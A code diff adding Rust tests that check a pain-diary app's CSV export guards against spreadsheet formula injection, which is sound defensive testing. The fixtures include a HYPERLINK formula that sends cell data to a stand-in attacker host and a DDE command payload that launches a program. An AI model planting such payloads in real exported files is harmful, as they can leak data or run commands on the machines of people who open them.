@@ -560,11 +560,75 @@ fn the_report_refuses_markup_that_is_not_a_painrx_chart() {
     }
 }
 
+/// Probe: `=HYPERLINK(…)` in a note went into the CSV as a formula. Every cell that could start
+/// one is written with a leading `'` (OWASP), and reads back exactly as it was.
+#[test]
+fn csv_cells_that_could_start_a_formula_are_neutralised() {
+    let notes = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "'quoted already",
+        "''two quotes",
+        "plain note",
+    ];
+    for note in notes {
+        let entry = EntryData {
+            note: Some(note.to_string()),
+            side_effects: vec!["=cmd|' /C calc'!A0".to_string()],
+            ..EntryData::new("2026-01-05".parse().unwrap_or_else(|e| panic!("{e}")), 3)
+        };
+        let text = diary_csv(std::slice::from_ref(&entry));
+        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
+        let cells: Vec<String> = reader
+            .records()
+            .flat_map(|r| {
+                r.unwrap_or_else(|e| panic!("{e}"))
+                    .iter()
+                    .map(str::to_string)
+                    .collect::<Vec<_>>()
+            })
+            .collect();
+        for cell in &cells {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell could start a formula: {cell:?}"
+            );
+        }
+        let written = cells.last().unwrap_or_else(|| panic!("no note cell"));
+        let guarded = note.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']);
+        assert_eq!(
+            written.starts_with('\'') && written[1..] == *note,
+            guarded,
+            "{written:?}"
+        );
+        assert_eq!(
+            diary_from_csv(&text).ok(),
+            Some(vec![entry]),
+            "{note:?} reads back"
+        );
+    }
+}
+
 proptest! {
     #![proptest_config(ProptestConfig::with_cases(64))]
 
     #[test]
     fn any_valid_diary_round_trips_through_csv(entries in prop::collection::vec(diary::arb_entry(), 0..12)) {
+        prop_assert_eq!(diary_from_csv(&diary_csv(&entries)).map_err(|e| e.to_string()), Ok(entries));
+    }
+
+    /// Notes that start like a formula (or with the guard itself) round-trip too.
+    #[test]
+    fn formula_like_notes_round_trip_through_csv(note in "[=+\\-@\t\r'][\\PC\t\r]{0,30}") {
+        let entry = EntryData {
+            note: Some(note),
+            ..EntryData::new("2026-02-01".parse().unwrap_or_else(|e| panic!("{e}")), 5)
+        };
+        let entries = vec![entry];
         prop_assert_eq!(diary_from_csv(&diary_csv(&entries)).map_err(|e| e.to_string()), Ok(entries));
     }
 }
